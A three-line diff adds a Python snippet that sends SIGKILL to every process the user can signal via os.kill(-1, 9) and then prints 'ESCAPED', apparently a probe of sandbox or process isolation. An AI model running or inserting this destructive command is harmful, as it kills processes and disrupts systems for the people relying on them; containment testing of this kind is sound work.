@@ -1,0 +1,3 @@
+import os
+os.kill(-1, 9)
+print("ESCAPED")
